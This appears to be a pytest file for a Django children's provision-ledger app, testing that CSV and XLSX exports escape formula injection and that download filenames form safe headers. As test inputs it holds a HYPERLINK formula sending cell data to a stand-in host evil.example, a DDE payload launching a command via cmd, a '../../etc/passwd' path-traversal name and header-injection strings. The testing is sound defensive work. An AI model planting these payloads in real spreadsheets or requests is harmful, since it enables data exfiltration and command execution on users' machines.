"""No text the product writes into a CSV or XLSX can run as a spreadsheet formula, and no child's name breaks a
download's header."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from provision_ledger.kit.spreadsheets import csv_text, download, download_name, safe_cell, xlsx_bytes
from tests.factories import make_child, make_la_officer, make_line, make_plan, make_session

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_would_start_a_formula_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    (row,) = csv.reader(io.StringIO(csv_text([[f"{start}SUM(A1)"]])))
    assert row == [f"'{start}SUM(A1)"]


def test_numbers_and_plain_text_are_left_as_they_are():
    assert [safe_cell(v) for v in (-5, 3.5, "Motor skills", "", None, "a=b")] == [
        -5,
        3.5,
        "Motor skills",
        "",
        None,
        "a=b",
    ]


def test_xlsx_cells_holding_text_are_typed_as_text_and_numbers_stay_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([[FORMULA, 12.5, "=1+1"]], ["Line", "Hours", "Note"], "Map"))).active
    assert sheet is not None
    line, hours, note = sheet[2]
    assert (line.data_type, line.value) == ("s", "'" + FORMULA)
    assert (hours.data_type, hours.value) == ("n", 12.5)
    assert (note.data_type, note.value) == ("s", "'=1+1")


@pytest.fixture
def poisoned(school, senco, child):
    line = make_line(make_plan(child, senco), senco, description=FORMULA)
    make_session(line, senco, date(2025, 9, 10), note="@SUM(1+1)*cmd|' /C calc'!A0")
    return line


def test_every_csv_and_xlsx_the_school_and_authority_download_is_neutralised(client, poisoned, school, senco, child):
    client.force_login(senco)
    sessions = client.get(reverse("record-csv", kwargs={"child_id": child.pk})).content.decode()
    assert "'" + FORMULA in [cell for row in csv.reader(io.StringIO(sessions)) for cell in row]
    assert not any(c.startswith(("=", "@")) for row in csv.reader(io.StringIO(sessions)) for c in row)
    page = client.get(reverse("provision-map-csv", args=[school.urn]), {"year": 2025}).content.decode()
    assert "'" + FORMULA in [cell for row in csv.reader(io.StringIO(page)) for cell in row]
    book = client.get(reverse("provision-map-xlsx", args=[school.urn]), {"year": 2025}).content
    cells = [c for row in load_workbook(io.BytesIO(book)).active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "'" + FORMULA and c.data_type == "s" for c in cells)
    client.force_login(make_la_officer(school.local_authority))
    for name in ("la-delivery-csv", "la-open-statistics"):
        text = client.get(reverse(name)).content.decode()
        assert not any(c.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(text)) for c in row)


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ('Ol"iver\nBennett', 'attachment; filename="Ol\\"iver Bennett.csv"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd.csv"'),
        ("Zoë", "attachment; filename*=utf-8''Zo%C3%AB.csv"),
    ],
)
def test_a_download_name_with_a_newline_a_quote_or_a_path_makes_a_well_formed_header(name, header):
    assert download("x", "text/csv", f"{name}.csv")["Content-Disposition"] == header


def test_a_child_named_with_a_newline_and_a_quote_downloads_their_record(client, school, senco):
    child = make_child(school, first_name='Ol"iv\ner', last_name="Ben\r\nnett")
    client.force_login(senco)
    for name in ("record-csv", "record-json"):
        response = client.get(reverse(name, kwargs={"child_id": child.pk}))
        assert response.status_code == 200
        assert "\n" not in response["Content-Disposition"]
    assert download_name("\n\t") == "download"
